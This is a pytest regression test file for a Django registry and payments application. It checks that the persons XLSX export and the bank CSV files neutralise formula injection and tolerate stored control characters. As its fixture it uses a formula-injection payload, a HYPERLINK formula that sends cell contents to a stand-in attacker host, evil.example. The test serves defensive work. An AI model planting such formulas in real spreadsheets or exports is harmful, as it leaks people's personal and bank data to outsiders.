"""Exports neutralise formulas; a control character in stored data no longer breaks them.

Regression: a name starting with `=HYPERLINK(...)` became a live formula in the persons export
(core/exports.py) and in bank CSV files (payments/bankfiles.py).
"""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from minzheng.core.exports import neutralise, xlsx_bytes
from minzheng.registry.models import Person

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"点此")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_that_starts_like_a_formula_is_written_as_text(start: str) -> None:
    content, _ = xlsx_bytes(["姓名"], [[start + "1+1"], [-5], ["张三"]])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    # XML stores a carriage return as a line feed; the apostrophe is what matters.
    assert cells == ["'" + start.replace("\r", "\n") + "1+1", -5, "张三"]
    assert sheet.cell(row=2, column=1).data_type == "s"


def test_neutralise_keeps_numbers_and_plain_text() -> None:
    assert neutralise(-12) == -12
    assert neutralise("李建国") == "李建国"
    assert neutralise("a\x01b") == "a\ufffdb"


def test_the_persons_export_shows_a_formula_name_as_text(
    household_li_three_members: Any, caseworker_nanmen: Any, client_for: Callable[[Any], Client]
) -> None:
    Person.objects.filter(name="李明").update(name=EVIL, address="@SUM(1,2)")
    # A control character stored before input was checked used to make every export fail.
    Person.objects.filter(name="王秀英").update(address="解放南路\x0b12号")
    response = client_for(caseworker_nanmen).get("/registry/persons/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    rows = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert "'" + EVIL in rows
    assert rows["'" + EVIL][6] == "'@SUM(1,2)"
    assert all(cell.data_type != "f" for row in sheet.iter_rows(min_row=1) for cell in row)


def test_bank_csv_files_neutralise_the_holder_name() -> None:
    from minzheng.payments.bankfiles import render_line
    from minzheng.payments.models import BankTemplate

    template = BankTemplate(
        name="通用CSV",
        format=BankTemplate.Format.CSV,
        encoding="utf-8",
        fields=[
            {"field": "reference"},
            {"field": "account"},
            {"field": "holder_name"},
            {"field": "amount_yuan"},
        ],
    )
    line = render_line(
        template,
        {
            "reference": "B1-1",
            "amount_fen": 65000,
            "account": "6228480000000001",
            "holder_name": EVIL,
            "bank_name": "农业银行",
        },
    )
    assert line.startswith("B1-1,6228480000000001,\"'=HYPERLINK(")
    assert line.endswith(",650.00")
